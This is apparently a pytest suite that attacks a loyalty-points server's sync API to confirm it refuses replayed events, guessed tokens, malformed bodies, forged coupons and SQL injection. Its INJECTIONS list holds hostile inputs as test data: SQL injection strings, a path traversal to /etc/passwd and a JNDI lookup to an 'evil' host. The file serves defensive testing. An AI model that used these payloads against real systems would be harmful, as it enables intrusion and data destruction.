"""Attacks on the central server over its real HTTP app (FastAPI TestClient): malformed and
hostile sync payloads, a till pushing or replaying another's events, SQL injection in every
parameter, stolen or guessed tokens, forged coupons and other chains' codes.

Every attack ends in a 4xx with the API's error shape (never a 5xx or a traceback) and the
server's books exactly as they were.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from loyalty_desk.domain.codes import luhn_check_digit
from loyalty_desk.domain.coupons import CodeCheck, check_code, make_code
from loyalty_desk.domain.errors import Refusal
from loyalty_desk.server import models as sm
from loyalty_desk.server.admin import sha256
from loyalty_desk.server.app import create_app
from loyalty_desk.services import checkout, coupons, members, sync
from loyalty_desk.services.desk import Desk
from loyalty_desk.services.usecase import unwrap
from loyalty_desk.store.models import Outbox, SyncState
from tests.adversarial.conftest import EXAMPLES, tried
from tests.adversarial.test_parsers import NASTY, TEXT
from tests.sync.chain import Chain, check_server_books

FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE device; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)--",
    "0 UNION SELECT token_hash FROM device",
    "%27%20OR%201%3D1",
    "\\'; DELETE FROM event; --",
    "../../etc/passwd",
    "${jndi:ldap://evil/x}",
]


def token_of(desk: Desk) -> str:
    with desk.read() as s:
        state = s.get(SyncState, 1)
        assert state is not None and state.device_token
        return state.device_token


def outbox_events(desk: Desk) -> list[dict[str, Any]]:
    with desk.read() as s:
        rows = s.scalars(select(Outbox).order_by(Outbox.device_seq)).all()
        return [json.loads(r.payload) for r in rows]


def books(chain: Chain) -> tuple[int, ...]:
    """What an attack must not change: row counts and the points on the server."""
    with chain.db.read() as conn:
        counts = [
            conn.execute(select(func.count()).select_from(t)).scalar_one()
            for t in (sm.Event, sm.Entry, sm.Member, sm.Quarantine, sm.Device, sm.Case, sm.Hold)
        ]
        points = conn.execute(select(func.coalesce(func.sum(sm.Member.points), 0))).scalar_one()
    return (*[int(c) for c in counts], int(points))


@pytest.fixture
def world(chain: Chain) -> Iterator[tuple[Chain, TestClient, Desk, Desk]]:
    """Two stores, a till each, some synced sales; an HTTP client on the real app."""
    a = chain.till("a", "S001")
    b = chain.till("b", "S002")
    m = unwrap(members.enroll(a, "13812345678", "Target"))
    for i in range(3):
        unwrap(checkout.earn(a, m.code, f"A-{i}", 50_000))
    chain.sync("a")
    chain.sync("b")
    with TestClient(create_app(chain.service, log_level="WARNING")) as client:
        yield chain, client, a, b


def assert_refused(reply: Any, *statuses: int) -> None:
    assert reply.status_code < 500, (reply.status_code, reply.text[:500])
    if statuses:
        assert reply.status_code in statuses, (reply.status_code, reply.text[:500])
    body = reply.json()
    assert "error" in body or "detail" in body, body


def auth(desk: Desk) -> dict[str, str]:
    return {"Authorization": f"Bearer {token_of(desk)}", "X-Loyalty-Protocol": "1"}


# -- a till against another till ------------------------------------------------------------


def test_a_till_cannot_push_another_devices_or_stores_events(world: Any) -> None:
    chain, client, a, b = world
    before = books(chain)
    b_device = b.info.device_id
    a_events = outbox_events(a)
    # As itself, carrying A's events (replay of another till's batch).
    tried("attack: replay another till's batch")
    reply = client.post(
        "/v1/sync/push", json={"device_id": b_device, "events": a_events}, headers=auth(b)
    )
    assert_refused(reply, 403)
    # Claiming to be A with B's token.
    tried("attack: push as another device")
    reply = client.post(
        "/v1/sync/push",
        json={"device_id": a.info.device_id, "events": a_events},
        headers=auth(b),
    )
    assert_refused(reply, 403)
    # Its own device id on A's events, the store left as A's (a forged header).
    tried("attack: push for another store")
    forged = [{**e, "device_id": b_device} for e in a_events]
    reply = client.post(
        "/v1/sync/push", json={"device_id": b_device, "events": forged}, headers=auth(b)
    )
    assert_refused(reply, 403)
    assert books(chain) == before


def test_a_till_reads_only_what_sync_gives_it(world: Any) -> None:
    """Pull gives the chain's members (any store may serve them) but nothing of another
    device: its token, its events' results, its counts."""
    _chain, client, a, b = world
    tried("attack: read other stores' data")
    reply = client.get("/v1/sync/pull", params={"cursor": 0}, headers=auth(b))
    assert reply.status_code == 200
    text = reply.text
    for secret in (token_of(a).split(".")[1], a.info.device_id):
        assert secret not in text
    check = client.get("/v1/sync/check", headers=auth(b)).json()
    assert check["device_id"] == b.info.device_id
    assert check["event_count"] == len(outbox_events(b))
    # The unauthenticated see nothing at all.
    for path in ("/v1/sync/pull", "/v1/sync/check"):
        assert_refused(client.get(path, headers={"X-Loyalty-Protocol": "1"}), 401)


def test_tokens_are_stored_hashed_and_compared_in_constant_time(world: Any) -> None:
    chain, client, a, _b = world
    token = token_of(a)
    device_id, secret = token.split(".", 1)
    with chain.db.read() as conn:
        row = conn.execute(select(sm.Device).where(sm.Device.id == device_id)).mappings().one()
        dump = json.dumps(
            [
                [dict(r) for r in conn.execute(t.select()).mappings()]
                for t in sm.Base.metadata.sorted_tables
            ],
            default=str,
        )
    assert row["token_hash"] == sha256(secret) and secret not in dump
    import inspect

    from loyalty_desk.server import admin

    assert "hmac.compare_digest" in inspect.getsource(admin.authenticate)
    # Guessed and mangled tokens: all 401, none 5xx.
    for guess in (
        f"{device_id}.{secret[:-1]}",
        f"{device_id}.{secret}x",
        f"{device_id}.",
        f".{secret}",
        secret,
        f"{device_id}.{'A' * 400}",
        *[f"{device_id}.{inj}" for inj in INJECTIONS],
        *INJECTIONS,
    ):
        tried("attack: guessed or mangled token")
        reply = client.get(
            "/v1/sync/check",
            headers={"Authorization": f"Bearer {guess}", "X-Loyalty-Protocol": "1"},
        )
        assert_refused(reply, 401, 422)


def test_wrong_registration_codes_never_register(world: Any) -> None:
    chain, client, _a, _b = world
    before = books(chain)
    for i in range(50):
        tried("attack: guessed registration code")
        body = {"code": f"{i:04d}-0000-{i:04d}", "device_id": f"dev{i}", "store_id": "S001"}
        assert_refused(client.post("/v1/register", json=body), 403, 409, 400)
    assert books(chain) == before


# -- malformed and hostile payloads -----------------------------------------------------------

MALFORMED: list[Any] = [
    None,
    [],
    "events",
    123,
    {"device_id": None, "events": []},
    {"device_id": "x", "events": None},
    {"device_id": "x", "events": "[]"},
    {"device_id": "x", "events": [None, 1, "a", [], {}]},
    {"device_id": "x", "events": [{"event_id": 1, "device_seq": "1"}]},
    {"device_id": "x", "events": [{"event_id": "e", "device_seq": 2**70}]},
    {"device_id": "x", "events": [{"event_id": "e" * 5000}]},
    {"device_id": "x" * 5000, "events": []},
    {"device_id": "x", "events": [], "extra": 1},
    {"device_id": "\x00", "events": []},
    {"device_id": "x", "events": [{"kind": "points_earned", "entries": "all"}]},
]


def _own(desk: Desk, events: list[dict[str, Any]]) -> dict[str, Any]:
    return {"device_id": desk.info.device_id, "events": events}


@pytest.mark.parametrize("body", MALFORMED)
def test_hand_written_malformed_pushes(world: Any, body: Any) -> None:
    chain, client, _a, b = world
    before = books(chain)
    tried("sync payload (hand-written)")
    reply = client.post("/v1/sync/push", json=body, headers=auth(b))
    assert reply.status_code < 500, reply.text
    assert books(chain) == before


def test_bodies_that_are_not_json(world: Any) -> None:
    chain, client, _a, b = world
    before = books(chain)
    for raw in (b"", b"{", b"\xff\xfe\x00", b'{"device_id": "x", "events": [', b"nul\x00l"):
        tried("sync payload (hand-written)")
        reply = client.post(
            "/v1/sync/push",
            content=raw,
            headers={**auth(b), "Content-Type": "application/json"},
        )
        assert_refused(reply, 400, 422)
    assert books(chain) == before


def test_a_huge_batch_is_refused_whole(world: Any) -> None:
    chain, client, a, b = world
    before = books(chain)
    tried("sync payload (hand-written)")
    event = {**outbox_events(a)[0], "device_id": b.info.device_id, "store_id": "S002"}
    many = [{**event, "device_seq": i + 1, "event_id": f"e{i}"} for i in range(5_000)]
    assert_refused(client.post("/v1/sync/push", json=_own(b, many), headers=auth(b)), 422)
    assert books(chain) == before


JSON = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        TEXT,
        NASTY,
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=12), inner, max_size=5)
    ),
    max_leaves=12,
)
FIELDS = st.sampled_from(
    ["event_id", "device_seq", "kind", "created_at", "data", "entries", "store_id", "device_id"]
)
ENTRY_FIELDS = st.sampled_from(
    ["id", "member_id", "kind", "points", "occurred_at", "amount_fen", "detail", "expires_at"]
)


@FUZZ
@given(field=FIELDS, entry_field=ENTRY_FIELDS, value=JSON, seq_shift=st.integers(-2, 2))
def test_mutated_events_of_the_tills_own(
    world: Any, field: str, entry_field: str, value: Any, seq_shift: int
) -> None:
    """A real pending event of the till with one field (or one entry's field) replaced by
    anything: rejected, quarantined or stopped at a gap — never a 5xx, never half-applied."""
    chain, client, _a, b = world
    tried("sync payload (mutated event)")
    code = members.find(b, "13812345678")
    assert not isinstance(code, Refusal)
    if not outbox_events(b):
        unwrap(checkout.earn(b, "13812345678", "B-FUZZ", 30_000))
    pending = [e for e in outbox_events(b)][-1:]
    event = json.loads(json.dumps(pending[0]))
    event["device_seq"] = max(1, event["device_seq"] + seq_shift)
    if event.get("entries") and entry_field != "id":
        event["entries"][0][entry_field] = value
    else:
        event[field] = value
    event["event_id"] = f"fz{abs(hash(json.dumps(event, sort_keys=True, default=str))) % 10**12}"
    before = books(chain)
    # Encoded here: lone surrogates travel as JSON escapes ("\ud800"), as any client may.
    reply = client.post(
        "/v1/sync/push",
        content=json.dumps(_own(b, [event])),
        headers={**auth(b), "Content-Type": "application/json"},
    )
    assert reply.status_code < 500, reply.text[:800]
    if reply.status_code == 200:
        result = reply.json()
        statuses = {r["status"] for r in result["results"]}
        if "accepted" not in statuses:
            after = books(chain)
            # Rejected or quarantined: recorded as such, no entries, no points moved.
            assert after[1] == before[1] and after[-1] == before[-1]
    check_server_books(chain.service)


@pytest.mark.parametrize("value", INJECTIONS)
def test_sql_injection_in_every_api_parameter(world: Any, value: str) -> None:
    chain, client, _a, b = world
    before = books(chain)
    tried("attack: SQL injection (API)", 6)
    assert_refused(client.get("/v1/sync/pull", params={"cursor": value}, headers=auth(b)), 422)
    assert_refused(client.get("/v1/sync/pull", params={"limit": value}, headers=auth(b)), 422)
    assert_refused(client.delete(f"/v1/holds/{value}", headers=auth(b)), 404, 422)
    assert_refused(client.post("/v1/holds", json={"member_id": value}, headers=auth(b)), 422)
    assert_refused(
        client.post("/v1/register", json={"code": value, "device_id": value, "store_id": value}),
        422,
    )
    reply = client.get("/v1/sync/check", headers={**auth(b), "X-Loyalty-Protocol": value})
    assert_refused(reply, 400, 422, 426)
    assert books(chain) == before


@pytest.mark.parametrize("value", INJECTIONS)
def test_sql_injection_in_every_till_search_field(world: Any, value: str) -> None:
    _chain, _client, a, _b = world
    from loyalty_desk.services import audit, member_list
    from tests.helpers import db_fingerprint

    before = db_fingerprint(a)
    tried("attack: SQL injection (till)", 6)
    found = members.find(a, value)
    assert isinstance(found, Refusal) or found.members == ()
    page = member_list.page(a, search=value)
    assert isinstance(page, Refusal) or page.rows == ()  # type: ignore[union-attr]
    assert isinstance(coupons.show(a, value), Refusal)
    assert isinstance(members.show(a, value), Refusal)
    assert isinstance(checkout.refund(a, value, dry_run=True), Refusal)
    assert isinstance(coupons.list_for_member(a, value), Refusal)
    assert db_fingerprint(a) == before and audit.verify(a).ok


# -- forged codes -----------------------------------------------------------------------------


def test_a_forged_coupon_and_another_chains_codes_are_rejected(world: Any) -> None:
    chain, _client, a, _b = world
    from tests.helpers import db_fingerprint

    genuine = unwrap(coupons.exchange_points(a, "13812345678", 200)).coupon.code
    before = db_fingerprint(a)
    # One digit of the signature changed, the check digit recomputed: well-formed, forged.
    body = genuine[:-1]
    flipped = body[:-2] + str((int(body[-2]) + 1) % 10) + body[-1]
    forged = flipped + luhn_check_digit(flipped)
    other_chain = make_code(genuine[1:3], b"another chain's secret key 32by", "0" * 11)
    other_chain = other_chain if other_chain != genuine else other_chain[:-1] + "0"
    for code in (forged, other_chain):
        tried("attack: forged coupon")
        refused = coupons.redeem(a, code, "R-FORGED", 100_000)
        assert isinstance(refused, Refusal) and refused.code == "INVALID_CODE", refused
    keys = {genuine[1:3]: b"x" * 32}
    assert check_code(forged, keys) in (CodeCheck.FORGED, CodeCheck.MISTYPED)
    # Another chain's member card: a well-formed member code nobody here holds.
    tried("attack: another chain's member QR")
    stranger = "8" + "12345678"
    stranger += luhn_check_digit(stranger)
    found = members.find(a, stranger)
    assert not isinstance(found, Refusal) and found.members == ()
    refused = checkout.earn(a, stranger, "R-STRANGER", 10_000)
    assert isinstance(refused, Refusal) and refused.code == "UNKNOWN_MEMBER"
    assert db_fingerprint(a) == before
    _ = chain


def test_server_logs_never_hold_a_full_phone(world: Any) -> None:
    """The server's JSON log lines mask phones, in messages and tracebacks alike."""
    chain, client, a, b = world
    from loyalty_desk.server import logs

    lines: list[str] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(self.format(record))

    handler = Collect()
    handler.setFormatter(logs.JsonFormatter())
    logs.get().addHandler(handler)
    try:
        unwrap(members.enroll(a, "13912345678", "Logged"))
        unwrap(sync.sync_once(a))
        client.post("/v1/sync/push", json={"device_id": "x", "events": []}, headers=auth(b))
        client.get("/v1/sync/pull", params={"cursor": "13912345678"}, headers=auth(b))
        try:
            raise RuntimeError("member 13912345678 / +86 139 1234 5678 not found")
        except RuntimeError:
            logs.get().exception("failed for 13912345678")
    finally:
        logs.get().removeHandler(handler)
    tried("attack: phone in logs")
    text = "\n".join(lines)
    assert lines and "139****5678" in text
    assert "13912345678" not in text and "139 1234 5678" not in text
    _ = chain
